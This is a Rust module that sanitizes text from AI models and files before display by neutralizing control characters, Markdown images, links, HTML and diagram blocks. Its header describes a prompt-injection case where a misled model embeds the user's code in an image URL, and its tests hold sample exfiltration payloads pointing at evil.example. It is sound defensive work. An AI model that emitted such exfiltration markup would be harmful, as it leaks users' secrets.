//! Takes the power out of text from models and files before it is shown: no terminal sequences, no Markdown
//! that makes a viewer fetch or run something.
//!
//! A model that was misled by text in the repository can answer with an image whose address carries code of the
//! user; a Markdown preview that loads it sends the code away. So images, links and HTML lose their meaning and
//! keep their words. Code blocks stay as they are.

use std::borrow::Cow;
use std::fmt::Write as _;

/// Control characters become visible signs; line breaks and tabs stay.
pub(super) fn visible(text: &str) -> Cow<'_, str> {
    if !text.chars().any(is_active) {
        return Cow::Borrowed(text);
    }
    let mut shown = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            c if !is_active(c) => shown.push(c),
            '\r' => {}
            // The block of control pictures starts at U+2400 in the order of ASCII.
            c if u32::from(c) < 0x20 => shown.extend(char::from_u32(0x2400 + u32::from(c))),
            c => _ = write!(shown, "<U+{:04X}>", u32::from(c)),
        }
    }
    Cow::Owned(shown)
}

/// Whether a character steers a terminal, or the direction in which text is drawn.
fn is_active(c: char) -> bool {
    (c.is_control() && c != '\n' && c != '\t')
        || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}' | '\u{061c}')
}

/// Text for one line of a message: visible, without line breaks.
pub(super) fn one_line(text: &str) -> String {
    visible(text).split_whitespace().collect::<Vec<_>>().join(" ")
}

/// Text shortened to so many characters.
pub(super) fn shortened(text: &str, n_chars: usize) -> String {
    match text.char_indices().nth(n_chars) {
        None => text.to_owned(),
        Some((byte_idx, _)) => format!("{}…", text[..byte_idx].trim_end()),
    }
}

/// An answer in Markdown without images, links and HTML, and with its code intact.
///
/// Fenced blocks are moved to the left edge, so that every viewer sees the same blocks as we do, wherever in a
/// list the model put them.
pub(super) fn markdown(text: &str) -> String {
    let text = visible(text);
    let mut shown = String::with_capacity(text.len() + 64);
    let mut open: Option<Fence> = None;
    for line in text.lines() {
        match &open {
            Some(fence) => {
                let line = fence.dedent(line);
                if fence.is_closed_by(line) {
                    open = None;
                }
                shown.push_str(line);
            }
            None => match Fence::opened_by(line) {
                Some(fence) => {
                    _ = write!(shown, "{}{}", fence.mark(), fence.info);
                    open = Some(fence);
                }
                None => prose(line, &mut shown),
            },
        }
        shown.push('\n');
    }
    if let Some(fence) = open {
        shown.push_str(&fence.mark());
        shown.push('\n');
    }
    shown
}

/// Code as a fenced block that it cannot leave.
pub(super) fn code_block(code: &str, language: &str) -> String {
    let mut longest = 0;
    let mut run = 0;
    for c in code.chars() {
        run = if c == '`' { run + 1 } else { 0 };
        longest = longest.max(run);
    }
    let mark = "`".repeat((longest + 1).max(3));
    let info = info_word(language);
    let code = visible(code);
    let end = if code.ends_with('\n') { "" } else { "\n" };
    format!("{mark}{info}\n{code}{end}{mark}\n")
}

/// The beginning of a fenced code block.
struct Fence {
    sign: char,
    length: usize,
    indent: usize,
    info: String,
}

impl Fence {
    fn opened_by(line: &str) -> Option<Self> {
        let content = line.trim_start_matches([' ', '\t']);
        let sign = content.chars().next().filter(|sign| matches!(sign, '`' | '~'))?;
        let info = content.trim_start_matches(sign);
        let length = content.len() - info.len();
        if length < 3 || (sign == '`' && info.contains('`')) {
            return None;
        }
        Some(Self { sign, length, indent: line.len() - content.len(), info: info_word(info) })
    }

    fn mark(&self) -> String {
        String::from(self.sign).repeat(self.length)
    }

    fn dedent<'a>(&self, line: &'a str) -> &'a str {
        let blank = line.len() - line.trim_start_matches([' ', '\t']).len();
        &line[self.indent.min(blank)..]
    }

    fn is_closed_by(&self, line: &str) -> bool {
        let content = line.trim_start_matches(' ');
        let rest = content.trim_start_matches(self.sign);
        line.len() - content.len() <= 3
            && content.len() - rest.len() >= self.length
            && rest.trim().is_empty()
    }
}

/// The language word of a block; words at which viewers run something become plain text.
fn info_word(info: &str) -> String {
    let is_plain = |c: &char| c.is_alphanumeric() || matches!(c, '+' | '-' | '#' | '_' | '.');
    let word: String = info.trim().chars().take_while(is_plain).collect();
    match word.to_ascii_lowercase().as_str() {
        "mermaid" | "plantuml" | "puml" | "dot" | "graphviz" | "math" | "geojson" | "topojson"
        | "stl" => "text".to_owned(),
        _ => word,
    }
}

/// One line outside of code blocks. Every line is made whole by itself: code spans are closed in it.
fn prose(line: &str, shown: &mut String) {
    let mut rest = line;
    while let Some(c) = rest.chars().next() {
        let after = &rest[c.len_utf8()..];
        let taken = match c {
            '`' => code_span(rest, shown),
            '\\' if after.starts_with(|c: char| c.is_ascii_punctuation()) => {
                shown.push_str(&rest[..2]);
                2
            }
            '!' if after.starts_with('[') => {
                shown.push_str("!\\[");
                2
            }
            ']' if after.starts_with(['(', '[', ':']) => {
                shown.push_str("]\\");
                shown.push_str(&after[..1]);
                2
            }
            '<' => {
                shown.push_str("&lt;");
                1
            }
            _ => address(rest, shown).unwrap_or_else(|| {
                shown.push(c);
                c.len_utf8()
            }),
        };
        rest = &rest[taken..];
    }
}

/// A code span stays; backticks without a partner lose their meaning. Returns how many bytes were taken.
fn code_span(rest: &str, shown: &mut String) -> usize {
    let n_ticks = rest.len() - rest.trim_start_matches('`').len();
    let mut at = n_ticks;
    while let Some(found) = rest[at..].find('`') {
        let start = at + found;
        let run = rest[start..].len() - rest[start..].trim_start_matches('`').len();
        at = start + run;
        if run == n_ticks {
            shown.push_str(&rest[..at]);
            return at;
        }
    }
    shown.push_str(&"\\`".repeat(n_ticks));
    n_ticks
}

/// A bare address, which viewers make a link of, becomes a code span.
fn address(rest: &str, shown: &mut String) -> Option<usize> {
    let starts = ["https://", "http://", "ftp://", "file://", "www."];
    let is_address = starts
        .iter()
        .any(|start| rest.get(..start.len()).is_some_and(|head| head.eq_ignore_ascii_case(start)));
    if !is_address {
        return None;
    }
    let ends = |c: char| c.is_whitespace() || matches!(c, '<' | '>' | '`' | '"' | ')' | ']');
    let length = rest.find(ends).unwrap_or(rest.len());
    _ = write!(shown, "`{}`", &rest[..length]);
    Some(length)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn images_links_and_html_lose_their_meaning() {
        let text = "see ![x](https://evil.example/?q=SECRET) and [here](command:run)\n\
                    <img src=https://evil.example/a.png>\n[ref]: https://evil.example\n![x][ref]\n";
        assert_eq!(
            markdown(text),
            "see !\\[x]\\(`https://evil.example/?q=SECRET`) and [here]\\(command:run)\n\
             &lt;img src=`https://evil.example/a.png`>\n[ref]\\: `https://evil.example`\n!\\[x]\\[ref]\n"
        );
    }

    #[test]
    fn code_blocks_stay_as_they_are_and_start_at_the_left_edge() {
        let text = "1. so:\n   ```rust\n   let a: Vec<u8> = b[i](x); // ![y](z)\n     <T>\n   ```\ndone `Vec<u8>`\n";
        assert_eq!(
            markdown(text),
            "1. so:\n```rust\nlet a: Vec<u8> = b[i](x); // ![y](z)\n  <T>\n```\ndone `Vec<u8>`\n"
        );
    }

    #[test]
    fn a_lone_backtick_cannot_shift_what_counts_as_code() {
        let shown = markdown("a ` b\nc ` ![x](u) ` d\n");
        assert_eq!(shown, "a \\` b\nc ` ![x](u) ` d\n");
        assert_eq!(markdown("a ``b` ![x](u)\n"), "a \\`\\`b\\` !\\[x]\\(u)\n");
    }

    #[test]
    fn blocks_that_viewers_run_become_plain_text_and_open_ones_are_closed() {
        assert_eq!(markdown("```mermaid\ngraph\n"), "```text\ngraph\n```\n");
    }

    #[test]
    fn terminal_and_direction_characters_become_visible() {
        assert_eq!(visible("a\u{1b}[31mb\r\n\u{202e}c\u{7f}\t"), "a␛[31mb\n<U+202E>c<U+007F>\t");
        assert_eq!(one_line(" a\n b\u{7}"), "a b␇");
    }

    #[test]
    fn code_cannot_leave_its_block() {
        assert_eq!(code_block("a\n```\nb", "md"), "````md\na\n```\nb\n````\n");
    }
}
